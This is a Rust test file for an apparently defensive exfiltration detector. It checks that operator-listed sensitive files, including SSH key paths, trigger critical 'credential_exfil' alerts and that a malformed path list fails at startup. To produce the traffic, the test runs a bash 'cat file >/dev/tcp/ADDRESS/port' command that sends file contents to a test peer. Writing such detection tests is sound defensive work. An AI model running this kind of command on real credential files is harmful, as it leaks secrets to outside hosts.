//! Files that the operator names as sensitive, and files that he says are not.

use std::{fs, os::unix::fs::PermissionsExt, path::Path, process::Command};

use sentinel_tests::{
    bed::Bed,
    outside::{ADDRESS, Outside},
    sentinel::{PATIENCE, Sentinel, program, within},
};
use serde_json::Value;

/// A file whose content nobody would take for anything else.
fn write(path: &Path) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, "k".repeat(600)).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o600)).unwrap();
}

#[test]
fn what_the_operator_says_of_files_counts() {
    let Some(bed) = Bed::new() else { return };
    let outside = Outside::new();
    let said = bed.path("sensitive-paths");
    let directory = bed.path("keys");
    let patterns = ["recipe.txt", "vault/one", "*.hushed", "!id_public"];
    fs::write(&said, format!("# ours\n{}\n{}/\n", patterns.join("\n"), directory.display()))
        .unwrap();
    let option = format!("--sensitive-paths={}", said.display());
    let sentinel = Sentinel::start(&bed, &[&option]);
    let files = [
        ("recipe.txt", true),
        ("vault/one", true),
        ("vault/two", false),
        ("plans.hushed", true),
        ("keys/deep/down", true),
        (".ssh/id_public", false),
        (".ssh/id_other", true),
    ];
    let mut ports = Vec::new();
    for (name, _) in files {
        let path = bed.path(name);
        write(&path);
        let (there, loot) = outside.peer(ADDRESS);
        let code = format!("cat {} >/dev/tcp/{ADDRESS}/{}", path.display(), there.port());
        let mut command = outside.command(&bed, "bash");
        assert!(command.args(["-c", &code]).status().unwrap().success());
        assert!(within(PATIENCE, || loot.bytes().len() == 600), "{name} does not arrive");
        ports.push(there.port());
    }
    let alerts = sentinel.stop().alerts;
    for ((name, expected), port) in files.iter().zip(ports) {
        let is_it = |alert: &&Value| {
            alert["pattern_name"] == "credential_exfil" && alert["remote_port"] == port
        };
        let told: Vec<&Value> = alerts.iter().filter(is_it).collect();
        assert_eq!(told.len(), usize::from(*expected), "{name}: {told:#?}");
        assert!(told.iter().all(|alert| alert["severity"] == "critical"), "{told:#?}");
    }
}

#[test]
fn a_bad_list_stops_the_start_with_file_and_line() {
    let Some(bed) = Bed::new() else { return };
    let said = bed.path("sensitive-paths");
    fs::write(&said, "token\n/srv/*.key\n").unwrap();
    let mut command = Command::new(program());
    command.arg("run").arg(format!("--scope-cgroup={}", bed.cgroup().display()));
    command.arg(format!("--sensitive-paths={}", said.display())).arg("--duration=5");
    let output = command.output().unwrap();
    let text = String::from_utf8_lossy(&output.stderr) + String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(text.contains("sensitive-paths:2: /srv/*.key: not understood; give a /path"), "{text}");
}
